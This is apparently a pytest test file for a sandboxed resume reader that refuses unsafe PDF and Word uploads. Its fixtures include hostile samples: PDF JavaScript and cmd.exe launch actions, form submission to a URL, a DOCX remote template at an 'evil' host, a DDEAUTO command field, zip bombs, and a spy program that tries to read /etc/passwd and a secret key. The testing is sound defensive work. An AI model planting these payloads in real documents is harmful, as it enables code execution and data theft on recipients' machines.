"""Opening files of strangers: honest ones are read, others refused with a reason; no reader outlives its time."""

import sys
import time
from pathlib import Path

import pytest

from careercenter.applicants.reading import docx as word
from careercenter.applicants.reading import pdf as portable
from careercenter.applicants.reading.child import answer
from careercenter.applicants.reading.kinds import LARGEST, NotAResume, kind_of
from careercenter.applicants.reading.limited import read_file
from tests.applicants.resume_files import docx, pdf, zipped

TEXT = "Maria Lopez, CPC\nTulsa, OK\nMedical Coder at Mercy"
LAUNCH = "<< /S /Launch /F (cmd.exe) >>"


def test_a_pdf_is_read_in_a_process_of_its_own() -> None:
    read = read_file(pdf(TEXT, pages=2))
    assert (read.kind, read.pages) == ("pdf", 2)
    assert [line.strip() for line in read.text.split("\n")[:3]] == TEXT.split("\n")


def test_a_word_document_is_read_with_header_and_rows() -> None:
    read = answer(docx("Work\nCoder, Mercy\t2019 - 2021", header="Maria Lopez"))
    assert read["text"].split("\n")[:3] == ["Maria Lopez", "", "Work"]
    assert "Coder, Mercy\t2019 - 2021" in read["text"]


@pytest.mark.parametrize(
    ("data", "text"),
    [
        ("José Núñez, CPC".encode(), "José Núñez, CPC"),
        ("José Núñez, CPC".encode("utf-16"), "José Núñez, CPC"),
        ("\ufeffJosé".encode(), "José"),
        ("José Núñez\r\nCertificación de codificación médica".encode("latin-1"),
         "José Núñez\nCertificación de codificación médica"),
    ],
)  # fmt: skip
def test_text_is_read_in_any_encoding(data: bytes, text: str) -> None:
    assert answer(data)["text"] == text


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "empty"),
        (b"%PDF-" + b"0" * LARGEST, "larger than 5 MB"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old Word file"),
        (b"{\\rtf1 hello", "rich text"),
        (b"\x89PNG\r\n\x1a\n", "picture"),
        (b"\xff\xd8\xff\xe0", "picture"),
        (b"MZ\x90\x00", "program"),
        (b"\x1f\x8b\x08", "archive"),
        (b"<!DOCTYPE html><html>", "web page"),
        (b"\xef\xbb\xbf  <html>", "web page"),
        (b"abc\x00def", "cannot tell"),
    ],
)
def test_other_kinds_are_named_and_refused(data: bytes, says: str) -> None:
    with pytest.raises(NotAResume, match=says):
        kind_of(data)


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (pdf(TEXT, catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "scripts"),
        (pdf(TEXT, catalog="/Names << /JavaScript << /Names [(a) 50 0 R] >> >>",
             objects=["<< /S /JavaScript /JS (1) >>"]), "scripts"),
        (pdf(TEXT, page=f"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A {LAUNCH} >>]"), "programs"),
        (pdf(TEXT, page="/AA << /O << /S /SubmitForm /F (http://x) >> >>"), "send data"),
        (pdf(TEXT, objects=["<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"]), "other files"),
        (pdf(TEXT, catalog="/AcroForm << /XFA 50 0 R /Fields [] >>", objects=["[]"]), "form"),
        (pdf(TEXT, page="/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]"), "other files"),
        (pdf(TEXT) + zipped({"word/document.xml": b"<x/>"}), "second file"),
        (pdf(TEXT) + b"<html><script>alert(1)</script>", "second file"),
        (pdf(TEXT) + b"x" * 3000, "second file"),
        (pdf(TEXT, objects=["<< /A " * 60 + "<< /S /JavaScript >>" + " >>" * 60]), "damaged"),
        (pdf(TEXT, pages=21), "21 pages"),
        (b"%PDF-1.7\nnothing\n%%EOF", "damaged"),
        (pdf(TEXT)[:300], "damaged"),
    ],
)  # fmt: skip
def test_a_pdf_that_acts_or_hides_is_refused(data: bytes, says: str) -> None:
    with pytest.raises(NotAResume, match=says):
        portable.read(data)


def test_a_pdf_with_a_password_is_refused() -> None:
    import io

    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(TEXT))) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    with pytest.raises(NotAResume, match="password"):
        portable.read(out.getvalue())


def test_a_script_packed_into_a_stream_of_objects_is_found() -> None:
    import io

    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(
        io.BytesIO(pdf(TEXT, catalog="/OpenAction 50 0 R", objects=["<< /S /JavaScript /JS (1) >>"]))
    ) as one:
        one.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/JavaScript" not in out.getvalue()
    with pytest.raises(NotAResume, match="scripts"):
        portable.read(out.getvalue())


def test_a_wide_gap_ends_a_column() -> None:
    read = portable.read(pdf("ED Coder        Valley General Hospital        2014 - present\nOne word  after another"))
    assert read[0].split("\n") == ["ED Coder\tValley General Hospital\t2014 - present", "One word after another"]


def test_a_link_to_a_page_is_no_harm() -> None:
    link = "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com) >> >>]"
    assert portable.read(pdf(TEXT, page=link, catalog="/OpenAction [10 0 R /Fit]"))[1] == 1


REMOTE = b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
FIELD = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (docx(TEXT, extra={"word/vbaProject.bin": b"x"}), "macros"),
        (docx(TEXT, types='<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
         "macros"),
        (docx(TEXT, extra={"word/embeddings/oleObject1.bin": b"x"}), "other files"),
        (docx(TEXT, extra={"word/_rels/settings.xml.rels": REMOTE}), "elsewhere"),
        (docx(TEXT, body=FIELD), "elsewhere"),
        (docx(TEXT, extra={"word/media/bomb.xml": b" " * 20_000_000}), "far more"),
        (docx(TEXT, extra={"word/big.bin": bytes(range(256)) * 130_000}), "far more"),
        (docx(TEXT, extra={f"word/{n}.xml": b"" for n in range(2001)}), "far more"),
        (zipped({"a.txt": b"hello"}), "archive"),
        (zipped({"xl/workbook.xml": b"<x/>", "[Content_Types].xml": b"<x/>"}), "another kind"),
        (docx(TEXT, extra={"word/footer1.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), "damaged"),
        (docx(TEXT, body="<w:p><w:r>"), "damaged"),
        (docx(TEXT)[:-40], "damaged"),
        (b"PK\x03\x04" + b"rubbish" * 50, "damaged"),
        (docx("word " * 30_000), "20 pages"),
    ],
)  # fmt: skip
def test_a_document_that_acts_or_explodes_is_refused(data: bytes, says: str) -> None:
    with pytest.raises(NotAResume, match=says):
        word.read(data)


def test_hidden_and_deleted_words_are_not_read() -> None:
    body = (
        "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r><w:del><w:r><w:delText>gone</w:delText></w:r></w:del>"
        "<w:r><w:t>seen</w:t></w:r></w:p>"
    )
    assert answer(docx("", body=body))["text"].strip() == "seen"


@pytest.mark.parametrize(
    "program",
    [
        "import sys; sys.exit(3)",
        "import os; os.kill(os.getpid(), 9)",
        "import time; time.sleep(60)",
        "print('not json')",
        "print('{}')",
        "import sys\nwhile True: sys.stdout.write('x' * 65536)",
        "import os, time\nif os.fork(): os._exit(0)\ntime.sleep(60)",
    ],
    ids=["dies", "is killed", "hangs", "babbles", "says nothing", "floods", "forks"],
)
def test_whatever_the_reader_does_the_worker_lives_on(program: str) -> None:
    began = time.monotonic()
    with pytest.raises(NotAResume, match="could not read"):
        read_file(b"x" * 300_000, seconds=0.4, command=(sys.executable, "-S", "-c", program))
    assert time.monotonic() - began < 30


def test_the_reader_can_open_nothing_and_keeps_no_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CAREERCENTER_SECRET_KEY", "top secret")
    program = (
        "import json, os, socket, sys, careercenter.applicants.reading.child as child\n"
        "def spy(data):\n"
        "    tried = []\n"
        "    for act in (lambda: open('/etc/passwd'), lambda: socket.socket(), lambda: bytearray(2 * 1024 ** 3)):\n"
        "        try: act(); tried.append('done')\n"
        "        except (OSError, MemoryError): tried.append('refused')\n"
        "    return {'kind': 'text', 'text': ' '.join(tried + [os.environ.get('CAREERCENTER_SECRET_KEY', 'none')]), 'pages': None}\n"
        "child.answer = spy\n"
        "child.main()\n"
    )
    assert (
        read_file(b"hello", command=(sys.executable, "-s", "-P", "-c", program)).text == "refused refused refused none"
    )
